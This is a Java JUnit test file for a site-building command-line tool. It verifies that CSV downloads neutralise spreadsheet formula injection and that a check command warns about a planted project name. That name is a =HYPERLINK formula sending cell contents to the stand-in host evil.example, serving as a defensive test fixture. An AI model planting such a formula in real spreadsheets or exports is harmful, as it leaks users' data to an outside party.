package org.gongkai.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.gongkai.export.CsvCell;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 15, item 13, end to end on the command line: a fixture whose project name is a planted spreadsheet link.
 * Every CSV holds it after an apostrophe, data.json holds the published text, and check says where it stands.
 */
class FormulaDownloadsTest {

    static final Path CONTENT = Path.of("src/test/resources/formula-site/content");
    static final String PLANTED = "=HYPERLINK(\"https://evil.example/?\"&A2,\"点击查看详情\")";
    static final String YEAR_FOLDER = "demo-office/2024/";

    @TempDir
    static Path temp;

    static Path site;

    @BeforeAll
    static void build() {
        site = temp.resolve("site");
        CliTest.Run run = CliTest.gongkai("build", CONTENT.toString(), "-o", site.toString(), "--templates", "templates");
        assertEquals(0, run.code(), run.err());
    }

    @Test
    void projectsCsvHoldsThePlantedNameAsTextPerDisclosureAndSiteWide() throws IOException {
        for (String file : List.of(YEAR_FOLDER + "projects.csv", "data/projects.csv")) {
            Map<String, String> row = rows(site.resolve(file)).get(0);
            assertEquals("'" + PLANTED, row.get("project_name"), file);
            assertEquals(PLANTED, CsvCell.original(row.get("project_name")), file);
            // A published text that itself begins with an apostrophe and = gets one more, and reads back exactly.
            assertEquals("''=原文以单引号和等号开头，下载时再加一个单引号。", row.get("goal"), file);
            assertEquals("12.90", row.get("total"), file);
        }
    }

    @Test
    void indicatorsCsvProtectsTextButKeepsNumbersNumbers() throws IOException {
        for (String file : List.of(YEAR_FOLDER + "indicators.csv", "data/indicators.csv")) {
            Map<String, String> row = rows(site.resolve(file)).get(0);
            assertEquals("'" + PLANTED, row.get("project_name"), file);
            assertEquals("'-5%", row.get("value"), file);
            assertEquals("-5", row.get("number"), file);
            assertEquals("-5", row.get("normalised_amount"), file);
        }
    }

    @Test
    void dataJsonHoldsThePublishedText() throws IOException {
        for (String file : List.of(YEAR_FOLDER + "data.json", "data/data.json")) {
            JsonNode json = new ObjectMapper().readTree(site.resolve(file).toFile());
            JsonNode disclosure = json.has("disclosures") ? json.get("disclosures").get(0) : json;
            JsonNode project = disclosure.get("projects").get(0);
            assertEquals(PLANTED, project.get("project_name").asText(), file);
            assertEquals("'=原文以单引号和等号开头，下载时再加一个单引号。", project.get("goal").asText(), file);
            assertEquals("-5%", project.get("indicators").get(0).get("value").asText(), file);
        }
    }

    @Test
    void searchCsvOnTheCommandLineProtectsTheName() throws IOException {
        CliTest.Run run = CliTest.gongkai("search", "满意度", "--mode", "indicators", "--format", "csv",
                "--site", site.toString());
        assertEquals(0, run.code(), run.err());
        assertTrue(run.out().startsWith("\uFEFF"), "the CSV starts with a BOM, as the search page's download does");
        List<Map<String, String>> hits = rows(run.out().substring(1));
        assertTrue(hits.stream().anyMatch(h -> h.get("项目").equals("'" + PLANTED)), run.out());
        assertTrue(hits.stream().anyMatch(h -> h.get("指标值").equals("'-5%")), run.out());
        assertTrue(hits.stream().noneMatch(h -> h.get("项目").equals(PLANTED)), run.out());
    }

    @Test
    void checkWarnsWhereTheNameStands() throws IOException {
        CliTest.Run run = CliTest.gongkai("check", CONTENT.toString(), "--format", "json");
        List<JsonNode> formulas = run.out().lines().map(FormulaDownloadsTest::json)
                .filter(f -> f.get("rule").asText().equals("text.formula")).toList();
        assertEquals(1, formulas.size(), run.out());
        JsonNode f = formulas.get(0);
        assertEquals("warning", f.get("severity").asText());
        assertTrue(f.get("file").asText().endsWith("offices/demo-office/2024.yaml"), f.toString());
        assertEquals(List.of(7, 11), List.of(f.get("line").asInt(), f.get("column").asInt()));
        assertEquals(PLANTED, f.get("project").asText());
        String message = f.get("message").asText();
        for (String words : List.of("项目名称以“=”开头", "当作公式执行", "加一个英文单引号", "请删去")) {
            assertTrue(message.contains(words), message);
        }
    }

    private static JsonNode json(String line) {
        try {
            return new ObjectMapper().readTree(line);
        } catch (IOException e) {
            throw new AssertionError(line, e);
        }
    }

    private static List<Map<String, String>> rows(Path csv) throws IOException {
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), csv + " starts with a BOM");
        return rows(text.substring(1));
    }

    private static List<Map<String, String>> rows(String csv) throws IOException {
        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            return it.readAll();
        }
    }
}
